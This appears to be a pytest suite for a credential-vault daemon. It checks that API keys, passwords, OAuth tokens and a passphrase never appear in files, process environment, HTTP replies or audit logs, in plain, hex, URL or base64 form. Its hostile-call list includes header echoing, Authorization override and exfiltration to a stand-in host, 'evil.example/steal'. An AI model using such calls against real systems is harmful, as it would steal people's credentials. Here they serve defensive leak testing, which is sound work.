"""Promise 5 (rows L1 and W1): no credential anywhere it does not belong, in no form, whatever anybody tries."""

import base64
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from services.upstream import UpstreamProcess
from world import API_KEY, HOSTILE, PASSPHRASE, World

PLAIN_SECRET = "sentinel-plain-5d1f7be0a9c3"
USER_PASSWORD = "sentinel-password-93ab77e1"
ACCESS_TOKEN = "sentinel-access-1c2b3a4d5e6f"
REFRESH_TOKEN = "sentinel-refresh-aa55bb66cc77"
SENTINELS = (API_KEY, PLAIN_SECRET, USER_PASSWORD, ACCESS_TOKEN, REFRESH_TOKEN, PASSPHRASE)

HOSTILE_CALLS: list[tuple[str, dict[str, str]]] = [
    ("read_credential", {"url": "${args.url}"}),
    ("echo_headers", {"url": "${args.url}"}),
    ("override_header", {"url": "${args.url}", "header": "Authorization", "value": "mine"}),
    ("other_host", {"url": "https://evil.example/steal"}),
    ("garbage", {}),
    ("non_utf8", {}),
    ("trap", {}),
    ("stack_overflow", {}),
    ("err_text", {"text": "${args.url}"}),
    ("log_text", {"text": "${args.url}"}),
    ("flood_log", {}),
    ("bad_request", {}),
]


def forms(secret: str) -> set[bytes]:
    """Return every form in which a secret is searched for."""
    raw = secret.encode()
    found = {raw, raw.hex().encode(), raw.hex().upper().encode(), urllib.parse.quote(secret, safe="").encode()}
    for shift in range(3):
        encoded = base64.b64encode(b"\0" * shift + raw)
        core = encoded[-(-shift * 8 // 6) : (shift + len(raw)) * 8 // 6]
        found |= {core, core.translate(bytes.maketrans(b"+/", b"-_"))}
    return found


def artefacts(world: World) -> dict[str, bytes]:
    """Return everything that is left on disk or can be seen of the process."""
    found = {str(p.relative_to(world.folder)): p.read_bytes() for p in world.folder.rglob("*") if p.is_file()}
    if world.process is not None:
        for name in ("environ", "cmdline"):
            found[f"/proc/{name}"] = Path(f"/proc/{world.process.pid}/{name}").read_bytes()
    return found


@pytest.fixture
def world(tmp_path: Path, upstream: UpstreamProcess) -> Iterator[World]:
    """Offer an installation whose process begins as a person's does: what it was started with can be read of it."""
    with World(tmp_path, upstream=upstream.url, fresh=True) as made:
        yield made


@pytest.fixture
def lived(world: World, upstream: UpstreamProcess) -> tuple[World, list[str]]:
    """Offer a world in which everything was tried, and all the answers that were given."""
    answers: list[str] = []

    def say(answer: Any) -> Any:
        answers.append(answer.text + str(dict(answer.headers)))
        return answer

    world.start()
    world.set_up("wellbehaved", "hostile")
    say(world.control("PUT", "/v1/secrets", {"name": "plain", "value": PLAIN_SECRET}))
    wrong = {
        "connector": HOSTILE,
        "identity": "b",
        "value": {"type": "basic", "username": "u", "password": USER_PASSWORD},
    }
    say(world.control("POST", "/v1/bindings", wrong))
    tokens = {"type": "oauth2", "access_token": ACCESS_TOKEN, "refresh_token": REFRESH_TOKEN}
    say(world.control("POST", "/v1/bindings", {"connector": HOSTILE, "identity": "c", "value": tokens}))
    say(world.control("POST", "/v1/vault/unlock", {"passphrase": PASSPHRASE + "?"}))
    token = world.session()[1]
    upstream.behave("/echo", echo=True)
    upstream.behave("/echo-gzip", echo=True, gzip=True)
    encoded = base64.b64encode(f"Bearer {API_KEY}".encode()).decode()
    upstream.behave("/encoded", json={"a": encoded, "b": API_KEY.encode().hex(), "c": f"x{API_KEY}y"})
    upstream.behave("/header", headers={"X-Echo": f"Bearer {API_KEY}"}, json={"ok": True})
    upstream.behave("/refuses", status=401, body=f"the key {API_KEY} is not known")
    for path in ("/echo", "/echo-gzip", "/encoded", "/header", "/refuses"):
        for op, inputs in HOSTILE_CALLS:
            action = op.replace("_", "-")
            world.add_action(
                action, connector="hostile", op=op, capabilities=("mischief",), inputs=inputs, timeout="5s"
            )
            given = {"url": f"{world.upstream}{path}"} if "${args.url}" in inputs.values() else {}
            if given or path == "/echo":
                say(world.agent("POST", f"/v1/actions/{action}/run", {"arguments": given}, token=token))
        world.add_action("good", op="post_json")
        body = {"arguments": {"url": f"{world.upstream}{path}", "body": "{}"}}
        say(world.agent("POST", "/v1/actions/good/run", body, token=token))
    for path in (
        "/v1/bindings",
        "/v1/secrets",
        "/v1/audit?limit=10000",
        "/v1/audit/export",
        "/v1/status",
        "/v1/checks",
    ):
        say(world.control("GET", path))
    return world, answers


def test_no_artefact_and_no_answer_holds_a_secret_in_any_form(
    lived: tuple[World, list[str]], upstream: UpstreamProcess
) -> None:
    world, answers = lived
    assert any(r.headers.get("authorization") == f"Bearer {API_KEY}" for r in upstream.requests), "nothing was injected"
    places = artefacts(world) | {f"answer {n}": text.encode() for n, text in enumerate(answers)}
    assert len(places) > 60
    world.stop()
    places |= artefacts(world)
    for secret in SENTINELS:
        for form in forms(secret):
            leaks = [name for name, content in places.items() if form in content]
            assert leaks == [], f"{secret} as {form!r} is in {leaks}"


def test_the_master_token_is_in_the_discovery_file_only(lived: tuple[World, list[str]]) -> None:
    world, answers = lived
    token = world.discovery["token"].encode()
    assert [name for name, content in artefacts(world).items() if token in content] == ["home/daemon.json"]
    assert not any(token.decode() in answer for answer in answers)
    assert (world.home / "daemon.json").stat().st_mode & 0o777 == 0o600


def test_every_file_of_the_home_is_private(lived: tuple[World, list[str]]) -> None:
    world, _ = lived
    for path in world.home.rglob("*"):
        if path.parent.name != "actions" and path.name != "actions":
            assert path.stat().st_mode & 0o077 == 0, f"{path} can be read by others"


def test_the_scrub_holds_on_every_way_a_connector_is_loaded(world: World, upstream: UpstreamProcess) -> None:
    upstream.behave("/echo", echo=True)
    world.start()
    world.set_up()
    world.add_action("good", op="post_json")
    body = {"arguments": {"url": f"{world.upstream}/echo", "body": "{}"}}

    def answer() -> str:
        answered = world.control("POST", "/v1/actions/good/run", body)
        assert answered.status_code == 200, answered.text
        return answered.text

    first = answer()
    again = answer()
    world.stop()
    world.start()
    world.unlock()
    after_restart = answer()
    for cached in (world.home / "cache" / "wasm").glob("*"):
        if cached.is_file():
            cached.unlink()
    world.stop()
    world.start()
    world.unlock()
    compiled_anew = answer()
    for text in (first, again, after_restart, compiled_anew):
        assert API_KEY not in text
        assert "[redacted]" in text
